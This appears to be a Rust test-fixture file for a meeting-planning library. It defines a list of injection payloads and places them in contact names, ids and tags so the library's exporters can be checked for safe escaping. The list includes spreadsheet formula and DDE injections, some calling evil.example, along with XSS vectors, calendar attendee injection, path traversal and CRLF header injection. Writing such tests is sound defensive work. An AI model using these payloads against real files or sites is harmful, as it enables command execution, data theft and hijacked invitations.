//! Names and ids that would run, break out or start something, and a plan of people who are called by them.

use jiff::civil::date;
use onehour::advice::{Briefing, Extent};
use onehour::pool::{Person, Role};
use onehour::snapshot::KeptMeeting;
use onehour::{Plan, Pool, Programme, Request};
use onehour_io::contacts::{Contact, Contacts};
use onehour_io::out::{Bound, Edition};

/// What sign-up forms have been sent, and more: formulas, markup, calendar lines, paths, control characters.
pub(crate) const PAYLOADS: [&str; 60] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "\"=1+1\"",
    "'=1+1",
    "=\u{0}1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><input name=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{newcomer}{opener}{nonsense}",
    "a\r\nATTENDEE:mailto:evil@evil.example",
    "a\nATTENDEE:mailto:evil@evil.example",
    "a\rEND:VEVENT\rEND:VCALENDAR",
    "a\u{85}ATTENDEE:mailto:evil@evil.example",
    "a\u{2028}ATTENDEE:mailto:evil@evil.example",
    "a\\nATTENDEE:mailto:evil@evil.example",
    "a;CN=b:mailto:evil@evil.example",
    "a\":mailto:evil@evil.example",
    "a^n^'b",
    "../../../../etc/passwd",
    "C:\\Windows\\system32\\calc.exe",
    "\u{202e}gnp.exe\u{200b}",
    "%00%0d%0aSet-Cookie:x _x000D_ _x0041_",
];

/// Newcomers and openers with a payload in their ids and in their names.
pub(crate) fn contacts() -> Contacts {
    let contact = |(at, payload): (usize, &&str)| {
        let contact = Contact { name: Some((*payload).to_owned()), email: Some(format!("p{at}@example.org")) };
        [(newcomer_id(at), contact.clone()), (opener_id(at), contact)]
    };
    let organiser = Contact { name: Some("Office <b>;,\r\nX:y".into()), email: Some("office@example.org".into()) };
    let people = PAYLOADS.iter().enumerate().flat_map(contact);
    people.chain([("organiser".to_owned(), organiser)]).collect()
}

/// All that can be told beside the plan.
pub(crate) fn edition() -> Edition {
    let bound = bound();
    let briefing = Briefing::new(&bound.plan, &bound.snapshot, Extent::Everybody).unwrap();
    assert!(briefing.recruit.is_some() && briefing.help.values().any(|help| !help.is_empty()));
    Edition { contacts: contacts(), before: Some(before()), briefing, ..Edition::default() }
}

/// A plan before in which every newcomer met somebody, at a quarter past an hour of the round.
pub(crate) fn before() -> Vec<KeptMeeting> {
    let quarter_past = date(2026, 11, 23).at(9, 15, 0, 0).in_tz("Europe/Helsinki").unwrap().timestamp().as_second();
    let kept = |at| KeptMeeting { newcomer: newcomer_id(at), opener: opener_id(at), start: Some(quarter_past) };
    (0..PAYLOADS.len()).map(kept).collect()
}

pub(crate) fn newcomer_id(at: usize) -> String {
    format!("{}n{at}", PAYLOADS[at])
}

pub(crate) fn opener_id(at: usize) -> String {
    format!("{}o{at}", PAYLOADS[at])
}

/// A plan in which every newcomer but the last three meets somebody.
pub(crate) fn bound() -> Bound {
    let free = |mut person: Person, hours: &str| {
        person.availability = Some(hours.parse().unwrap());
        person.languages = [("en".to_owned(), onehour::language::Level::B2)].into();
        person
    };
    let last = PAYLOADS.len();
    let tagged = |at: usize, mut person: Person| {
        person.tags = vec![PAYLOADS[at].into()];
        person.organisation = Some(PAYLOADS[at].into());
        person
    };
    let newcomer = |at| tagged(at, free(Person::new(newcomer_id(at), Role::Newcomer), "Mon 9-12"));
    let mut people: Vec<Person> = (0..last - 3).map(newcomer).collect();
    people.extend((last - 3..last).map(|at| tagged(at, free(Person::new(newcomer_id(at), Role::Newcomer), "Sun 3-4"))));
    people.extend((0..last).map(|at| tagged(at, free(Person::new(opener_id(at), Role::Opener), "Mon 9-12"))));
    let programme = Programme::from_toml(
        "name = \"<b>=1+1\"\n[caps]\nunstated = { round = 1 }\n[[groups]]\nattribute = 'organisation'\n",
        "p.toml",
    )
    .unwrap();
    let pool = Pool::new(people).unwrap();
    let outcome = onehour::plan(&pool, &programme, &Request::new(date(2026, 11, 23))).unwrap();
    assert_eq!(outcome.plan.meetings.len(), last - 3);
    Bound::new(outcome.plan, outcome.snapshot).unwrap()
}

/// A plan in which each payload is the employer, the tag and the group of five newcomers and five openers, all of whom
/// meet somebody: so many that their counts are told.
pub(crate) fn crowd() -> Bound {
    let person = |role: Role, payload: usize, nth: usize| Person {
        availability: Some("Mon 9-12".parse().unwrap()),
        tags: vec![PAYLOADS[payload].into()],
        organisation: Some(PAYLOADS[payload].into()),
        ..Person::new(format!("{role:?} {payload} {nth}"), role)
    };
    let five =
        |payload| (0..5).flat_map(move |nth| [Role::Newcomer, Role::Opener].map(|role| person(role, payload, nth)));
    let programme = Programme::from_toml(
        "name = 'crowd'\n[caps]\nunstated = { round = 1 }\n[[groups]]\nattribute = 'organisation'\n\
         [[rules]]\nname = 'same'\nequal = { newcomer = 'organisation', opener = 'organisation' }\n",
        "p.toml",
    )
    .unwrap();
    let pool = Pool::new((0..PAYLOADS.len()).flat_map(five).collect()).unwrap();
    let outcome = onehour::plan(&pool, &programme, &Request::new(date(2026, 11, 23))).unwrap();
    assert_eq!(outcome.plan.meetings.len(), 5 * PAYLOADS.len());
    Bound::new(outcome.plan, outcome.snapshot).unwrap()
}

/// Every id and name of the plan.
pub(crate) fn is_known(plan: &Plan, text: &str) -> bool {
    let pairs = plan.meetings.iter().flat_map(|meeting| [&meeting.newcomer, &meeting.opener]);
    PAYLOADS.contains(&text) || pairs.chain(plan.waiting.iter().map(|waiting| &waiting.newcomer)).any(|id| id == text)
}
